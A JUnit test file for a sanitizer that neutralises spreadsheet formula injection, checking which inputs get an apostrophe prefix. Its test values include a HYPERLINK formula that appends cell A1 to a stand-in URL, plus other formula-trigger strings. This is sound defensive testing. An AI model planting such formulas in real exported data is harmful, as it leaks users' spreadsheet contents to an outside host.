package dev.whisker.report.data;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetTextTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://a/?\"&A1)",
        "+1+1",
        "-cmd",
        "@SUM(A1)",
        " =1",
        "\t=1",
        "\r=1",
        "\uFF1D1",
        "-"
      })
  void formulaBecomesText(String name) {
    assertThat(SpreadsheetText.of(name)).startsWith("'");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "-1", "-0.5", "12", "g1-1g", "a=b", "user@host", "\u538B\u6D4B"})
  void numbersAndNamesStay(String name) {
    assertThat(SpreadsheetText.of(name)).isEqualTo(name);
  }
}
